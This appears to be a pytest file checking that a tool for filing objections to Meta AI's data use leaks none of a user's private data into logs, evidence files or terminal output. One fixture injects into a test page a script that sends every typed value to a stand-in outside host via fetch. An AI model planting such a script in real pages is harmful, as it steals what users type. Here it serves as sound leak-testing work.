"""Promise: nothing private is logged, told, or written where it may be passed on.

Everything is run with marked values, and then every file and all that was printed is searched for
them, in every spelling. What may hold them is listed, and nothing else may.
"""

from __future__ import annotations

import json
import sqlite3
import sys
from base64 import b64encode
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from functools import cache
from html import escape
from pathlib import Path
from subprocess import CompletedProcess, run
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Playwright

from automation import logs
from automation.browser.launch import Plan, open_window
from automation.evidence.bundle import Bundle
from automation.evidence.witness import Witness
from automation.ledger import Ledger
from automation.recording import PageState, Recording, load
from flows.meta.instagram import META_AI_INSTAGRAM
from support import Somebody, settled

Command = Callable[..., CompletedProcess[str]]

EMAIL = "zorblatt.quennel@example.org"
STATEMENT = (
    "I object to this use, says Frimblewort of Grünwälde, to be called at +49 171 55501234.\n\n"
    'The "children" of Oxmandale & Pellumbra are shown there, and they were never asked.\n'
    "Quorvin Tarkhazel"
)
NAME = "Wexlington Drumgold"
TYPED = "Besides, says Ylverton, nobody from Dovecotium was told of it."
PASSWORD, CODE, COOKIE = "swordfishzz88", "731905kd", "kooqie8461523x"
USER, TOKEN = "vixenbrook.marsh", "tokk9f8e7d6c5b4a3"
PRIVATE_PATH = f"{USER}/confirm/{TOKEN}?key={TOKEN}&mail={quote(EMAIL)}"

GIVEN = ("zorblatt", "quennel", "frimblewort", "grünwälde", "55501234", "oxmandale", "pellumbra")
GIVEN += ("quorvin", "tarkhazel", "ylverton", "dovecotium")
OF_THE_PAGE = ("wexlington", "drumgold")
NEVER = (PASSWORD, CODE, COOKIE, "vixenbrook", TOKEN)

# What is meant for the person alone, by path, and the marks that it may hold.
MAY_HOLD: dict[str, tuple[str, ...]] = {
    "*.png": GIVEN + OF_THE_PAGE,  # the page as it was shown; test_never_logs_in looks at pixels
    "*/data/*.txt": GIVEN + OF_THE_PAGE,  # its text; the statement as offered and as left
    "*/data/*.html": GIVEN + OF_THE_PAGE,
    "*/data/*.aria.yaml": GIVEN + OF_THE_PAGE,
    "*/data/*.pdf": GIVEN + OF_THE_PAGE,
    ".env": GIVEN,
    "statement.txt": GIVEN,
    "chromium/*": GIVEN + OF_THE_PAGE + NEVER,  # a browser's profile
    "given/*": GIVEN + OF_THE_PAGE + NEVER,  # what this test hands in
}


@cache
def spellings(mark: str) -> set[bytes]:
    """The mark as it may stand in a file or on a terminal, in lower case but for Base64."""
    plain = {mark, quote(mark), json.dumps(mark)[1:-1], escape(mark), ascii(mark)[1:-1]}
    plain.add("".join(f"&#{ord(c)};" if ord(c) > 127 else c for c in mark))
    out = {each.encode().lower() for text in plain for each in (text.lower(), text.upper())}
    return out | {mark.encode("utf-16-le"), mark.encode("utf-16-be")}


@cache
def in_base64(mark: str) -> set[bytes]:
    """Its middle in Base64, wherever it stands in what was encoded."""
    return {b64encode(b"x" * shift + mark.encode())[4:-4] for shift in range(3)}


def marks_in(content: bytes, marks: tuple[str, ...] = GIVEN + OF_THE_PAGE + NEVER) -> set[str]:
    """The marks that this content holds."""
    low = content.lower()
    return {
        mark
        for mark in marks
        if any(each in low for each in spellings(mark))
        or any(each in content for each in in_base64(mark))
    }


def leaks(folder: Path) -> dict[str, set[str]]:
    """Every file below the folder, with the marks that it may not hold, in its name as well."""
    found: dict[str, set[str]] = {}
    # The test's own server brings its key, in whose letters anything may turn up.
    ours = (path for path in folder.rglob("*") if path.is_file() and path.name != "test.pem")
    for file in ours:
        allowed = {m for glob, may in MAY_HOLD.items() if _fits(file, folder, glob) for m in may}
        if ".masked." in file.name:  # what may be handed on
            allowed = set(OF_THE_PAGE)
        name = str(file.relative_to(folder))
        wanted = tuple({*GIVEN, *OF_THE_PAGE, *NEVER} - allowed)
        marks = marks_in(file.read_bytes(), wanted) | marks_in(name.encode())
        if marks:
            found[name] = marks
    return found


def _fits(file: Path, folder: Path, glob: str) -> bool:
    return file.relative_to(folder).match(glob) or (
        glob.endswith("/*") and folder / glob.removesuffix("/*") in file.parents
    )


def test_the_search_finds() -> None:
    """The search finds a mark in every spelling, so that its silence says something."""
    for mark in GIVEN + OF_THE_PAGE + NEVER:
        for text in (mark, mark.upper(), quote(mark), json.dumps({"a": mark}), ascii(mark)):
            assert marks_in(f"…{text}…".encode()) == {mark}
        assert marks_in(b64encode(f"ab {mark} cd".encode())) == {mark}
        assert marks_in(f"ab {mark} cd".encode("utf-16")) == {mark}


def personal(recording: Recording) -> Recording:
    """The recording as a person's own pages: their name in titles, headings and labels."""
    pages = tuple(
        replace(
            page,
            html=page.html.replace("<title>", f"<title>{NAME}: ")
            .replace("<span>AI at Meta</span>", f"<span>AI at Meta</span> <span>for {NAME}</span>")
            .replace("</h1>", f"</h1><h2>Hello, {NAME}</h2>"),
            headers={**page.headers, "Set-Cookie": f"session={COOKIE}; Secure"},
        )
        for page in recording.pages
    )
    return replace(recording, pages=pages)


# The form tells what is typed, in address and path, to the site and to somebody else.
TELLING = f"""<script nonce="drawn">
addEventListener("input", (event) => {{
  const value = encodeURIComponent(event.target.value);
  for (const path of ["/{USER}/draft/" + value, "/{PRIVATE_PATH}&draft=" + value, "/" + value]) {{
    for (const host of ["", "https://elsewhere.example"]) {{
      for (const method of ["GET", "POST"]) fetch(host + path, {{ method }}).catch(() => 0);
    }}
  }}
}});
</script></body>"""


def write(recording: Recording, folder: Path) -> Path:
    """The recording as a folder of files."""
    folder.mkdir(parents=True)
    text = (recording.folder / "recording.json").read_text()
    (folder / "recording.json").write_text(text)
    files = {page["name"]: page["file"] for page in json.loads(text)["pages"]}
    for page in recording.pages:
        (folder / files[page.name]).write_text(page.html)
    return folder


@pytest.fixture(autouse=True)
def a_place_for_scraps(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Temporary files are searched as well: crash dumps, traces, artifacts."""
    (tmp_path / "tmp").mkdir()
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))


@pytest.fixture
def settings(tmp_path: Path) -> None:
    """The marked person's own settings."""
    (tmp_path / "statement.txt").write_text(STATEMENT)
    (tmp_path / ".env").write_text(
        f"OBJECTOR_EMAIL={EMAIL}\nOBJECTOR_STATEMENT=./statement.txt\nOBJECTOR_LOG_LEVEL=debug\n"
    )


@pytest.mark.long
@pytest.mark.usefixtures("settings")
def test_commands_and_dry_runs(objector: Command, tmp_path: Path) -> None:
    """Dry runs, told in full, and every other command that looks at them afterwards.

    Without the redactor the held requests' paths tell e-mail and statement; with labels logged as
    the page has them, a card's label tells the person's name.
    """
    folder = write(personal(load("instagram-privacy-center-en")), tmp_path / "given" / "recording")
    page = folder / "form.html"
    page.write_text(page.read_text().replace("</body>", TELLING))
    address = f"https://www.instagram.com/accounts/?key={TOKEN}&mail={quote(EMAIL)}"
    ran = [
        objector("--debug", "dry-run", "default", "--recording", str(folder), "--json"),
        objector("--quiet", "dry-run", "default", "--recording", str(folder)),
        objector("explain", str(page), "--url", address, "--json"),
        objector("accounts", "--json"),
        objector("status"),
        objector("evidence", "list"),
        objector("evidence", "show", "latest"),
        objector("evidence", "show", "latest", "--json"),
        objector("evidence", "verify", "latest"),
        objector("doctor"),
    ]

    assert [each.returncode for each in ran] == [0] * len(ran), [e.stderr for e in ran]
    (log, _) = tmp_path.rglob("log.jsonl")
    assert "held back" in log.read_text()
    assert "link 'AI at Meta'" in log.read_text()
    for each in ran:
        assert not marks_in((each.stdout + each.stderr).encode()), each.args
    assert leaks(tmp_path) == {}


@pytest.mark.deep
def test_a_live_run(
    started: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The person is somewhere else first, logs in, types, and sends it: none of it is logged.

    With every path shown, log and provenance tell their user name and the token of a link.
    """
    (tmp_path / "given").mkdir()
    (tmp_path / "given" / "statement.txt").write_text(STATEMENT)
    monkeypatch.setenv("OBJECTOR_STATEMENT", str(tmp_path / "given" / "statement.txt"))
    monkeypatch.setenv("OBJECTOR_EMAIL", EMAIL)
    recording = personal(load("log-in-wall"))
    login = recording.page("login-wall")
    somewhere = {
        "unknown": f"https://www.instagram.com/{PRIVATE_PATH}",
        "foreign": f"https://elsewhere.example/{PRIVATE_PATH}",
        "checkpoint": f"https://www.instagram.com/challenge/{PRIVATE_PATH}",
    }
    html = f"<title>{NAME}</title><h1>{NAME}, {USER}</h1><p>{'words ' * 130}</p><input name=code>"
    pages = [PageState(n, url, html, 200, login.headers, ()) for n, url in somewhere.items()]
    recording = replace(recording, pages=(*recording.pages, *pages))
    _, run, page = started(recording, "--debug")
    run.told("Please log in here yourself")
    window = page("accounts/login")
    for url, words in (
        (somewhere["unknown"], "This page is new to me"),
        (somewhere["foreign"], "not on a host of the site"),
        (somewhere["checkpoint"], "The site wants to check that it is you"),
    ):
        window.goto(url)
        window.locator("[name=code]").fill(CODE)
        run.told(words)
    window.goto(login.url)
    window.fill("[name=username]", USER)
    window.fill("[name=password]", PASSWORD)
    window.get_by_role("button", name="Log in").click()
    run.told("Read it, change what you like")
    box = page("contact/").locator("textarea:visible").first
    box.fill(f"{STATEMENT} {TYPED}")
    window.wait_for_timeout(1_000)
    page("contact/").get_by_role("button", name="Submit").click()

    assert run.report()["outcome"] == "sent"
    said = run.said() + run.out_file.read_text()
    assert not marks_in(said.encode())
    (left,) = tmp_path.rglob("statement-as-left.txt")
    assert "ylverton" in marks_in(left.read_bytes())
    assert leaks(tmp_path) == {}


LAST_WORDS = f"'{STATEMENT[:60]}' of {EMAIL} at https://www.instagram.com/{PRIVATE_PATH}"


@pytest.mark.usefixtures("settings")
def test_a_browser_that_dies(objector: Command, tmp_path: Path) -> None:
    """A browser's last words are told as the reason, without what is private in them."""
    browser = tmp_path / "given" / "browser"
    browser.parent.mkdir()
    browser.write_text(f"#!{sys.executable}\nimport sys\nsys.exit({LAST_WORDS!r})\n")
    browser.chmod(0o700)

    ran = objector("--debug", "dry-run", "default", "--json", OBJECTOR_BROWSER=str(browser))

    assert ran.returncode == 1
    assert "https://www.instagram.com/…" in json.loads(ran.stdout)["attempts"][0]["reason"]
    assert not marks_in((ran.stdout + ran.stderr).encode())
    assert leaks(tmp_path) == {}


@pytest.mark.usefixtures("settings")
def test_a_fault_of_ours(objector: Command, tmp_path: Path) -> None:
    """Sentence and traceback of a fault, which get pasted into reports, hold nothing private.

    Printed as Python does, the traceback quotes the value that it stumbled over.
    """
    ledger = Ledger(tmp_path / "data" / "ledger.sqlite3")
    ledger.started("default/x", "default", "meta-ai-instagram", dry_run=False)
    with closing(sqlite3.connect(ledger.file)) as db, db:
        db.execute(
            "INSERT INTO events (at, attempt, account, flow, dry_run, kind, facts) VALUES "
            "(?, 'default/x', 'default', 'meta-ai-instagram', 0, 'ended', ?)",
            (f"{EMAIL} at https://www.instagram.com/{PRIVATE_PATH}", '{"outcome": "sent"}'),
        )

    ran = objector("--debug", "status")

    assert ran.returncode == 1
    assert "Traceback" in ran.stderr
    assert "A fault of ours: ValueError" in ran.stderr
    assert not marks_in((ran.stdout + ran.stderr).encode())


def test_settings_are_quoted_to_whoever_wrote_them(objector: Command, tmp_path: Path) -> None:
    """The one exception: a complaint about a setting quotes it, on the terminal only."""
    ran = objector("run", OBJECTOR_EMAIL="zorblatt.quennel")

    assert ran.returncode == 2
    assert "OBJECTOR_EMAIL" in ran.stderr
    assert "zorblatt.quennel" in ran.stderr
    assert leaks(tmp_path) == {}
    assert not (tmp_path / "data").exists()


def test_setting_up(tmp_path: Path) -> None:
    """`init` keeps what it is told in the two files that it names, and repeats none of it."""
    answers = f"{EMAIL}\n\n\n\n\nn\n"
    command = [sys.executable, "-m", "automation", "init"]
    ran = run(
        command, cwd=tmp_path, input=answers, text=True, capture_output=True, check=True, timeout=20
    )

    assert not marks_in((ran.stdout + ran.stderr).encode())
    assert marks_in((tmp_path / ".env").read_bytes()) == {"zorblatt", "quennel"}
    assert leaks(tmp_path) == {}


def test_what_the_person_types_is_known(playwright: Playwright, tmp_path: Path) -> None:
    """What the person makes of the statement is removed like the statement itself from then on."""
    flow = META_AI_INSTAGRAM
    recording = load("instagram-privacy-center-en")
    form = replace(recording, pages=(recording.page("form"),), leads=(), submission=None)
    with open_window(playwright, Plan(flow, headed=False, recording=form)) as opened:
        window = opened.window
        window.goto(recording.page("form").url)
        seen = settled(window, flow)
        assert seen.fields
        found = seen.fields.found()
        window.fill(found, {"email": EMAIL, "statement": STATEMENT})
        window._tabs.page().locator(found["statement"].selector).fill(TYPED)
        settled(window, flow)
        witness = Witness(window, flow, Bundle(tmp_path, "bundle", dry_run=True), Somebody())
        assert logs.redacted(TYPED) == TYPED

        witness.changed(seen)

    assert logs.redacted(f"so: {TYPED}") == "so: [removed]"
